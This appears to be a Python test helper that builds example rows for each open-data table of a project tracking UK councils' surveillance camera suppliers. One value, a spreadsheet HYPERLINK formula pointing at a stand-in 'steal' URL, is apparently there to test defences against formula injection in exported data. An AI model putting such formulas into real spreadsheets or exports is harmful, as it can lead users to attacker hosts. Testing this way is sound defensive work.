"""Rows of every table, made from example records, and the record that holds them."""

from collections.abc import Iterable
from datetime import date
from typing import Any

from tests.publish import examples
from watchback.publish.data import (
    TABLES,
    correction_object,
    coverage_counts,
    deployment_object,
    search_object,
    standing_object,
    statement_object,
    turn_object,
)
from watchback.records import Edtf
from watchback.records.coverage import Coverage
from watchback.records.open_data import DataRecord
from watchback.records.published import Correction, Named, PublishedDeployment
from watchback.words import Period, StandingLabel

BODIES = [examples.body_record(label) for label in StandingLabel] + [
    examples.edinburgh(date(2023, 6, 1)),
    examples.welsh(),
]
FORMULA = '=HYPERLINK("https://borsetshire.example/steal")'


def record(**other: Iterable[dict[str, Any]]) -> DataRecord:
    """The whole of open data; ``other`` gives other rows for a table."""
    rows = tables() | other
    return DataRecord(
        day=examples.TODAY,
        items={name: lambda name=name: iter(rows[name]) for name in rows},  # type: ignore[misc]
        version="one",
        notices=("Contains public sector information licensed under the Open Government Licence v3.0.",),
        kinds=("council-unitary",),
        nations=("England", "Scotland"),
        regions=("South West",),
        suppliers=(("hikvision", "Hikvision"),),
    )


def tables() -> dict[str, list[dict[str, Any]]]:
    """Rows by the name of their table."""
    statements = [one for body in BODIES for one in body.statements]
    quotes = {one.record.id: one.record.quote for one in statements}
    standings = [
        standing_object(one.standing, one.body.name, quotes, one.last_looked)
        for body in BODIES
        for one in body.standings
    ]
    # Examples of two labels may share a body's or a statement's id.
    by_id = {item["id"]: item | {"snapshot_on": "2023-11-05"} for item in map(statement_object, statements)}
    by_body = {item["body_id"]: item for item in standings}
    return {
        "statements": list(by_id.values()),
        "standings": list(by_body.values()),
        "standings-by-estate": [lane for item in by_body.values() for lane in item["estates"]],
        "wins": [
            {"id": f"{turn.body_id}-won", **turn_object(turn, body.body.name, quotes)}
            for body in BODIES
            for turn in body.turns
            if turn.win
        ],
        "bodies": list({item["id"]: item for item in map(_body, BODIES)}.values()),
        "suppliers": [
            {
                "id": "hikvision",
                "name": "Hikvision",
                "country": "CN",
                "legal_names": ["Hangzhou Hikvision Digital Technology Co., Ltd."],
                "native_names": ["海康威视"],
            }
        ],
        "searches": [search_object(body.body.id, one) for body in BODIES for one in body.searches],
        "coverage": [
            coverage_counts(
                "England",
                "council-unitary",
                "Hikvision",
                Coverage(Period.EVER, None, date(2024, 6, 1), 15, 13, 1, 0),
            )
        ],
        "deployments": [
            deployment_object(
                PublishedDeployment("", "CN", "border", Edtf("2021"), FORMULA, examples.ARTICLE, id="d1")
            )
        ],
        "corrections": [
            correction_object(
                Correction(
                    date(2024, 5, 1), "A statement", "It was of another council.", "statement", "x1",
                    Named(BODIES[0].body.id, BODIES[0].body.name), id="1",
                )
            )
        ],
        "whatdotheyknow": [{"body_id": BODIES[0].body.id, "what": "slug", "value": "borsetshire"}],
    }  # fmt: skip


def _body(body: Any) -> dict[str, Any]:
    empty: dict[str, Any] = dict.fromkeys(field.name for field in TABLES["bodies"].fields)
    named = {"id": body.body.id, "name": body.body.name, "kind": body.body.kind, "nation": body.body.nation}
    return {**empty, **named, "website": body.body.website or None, "replaced_by": []}
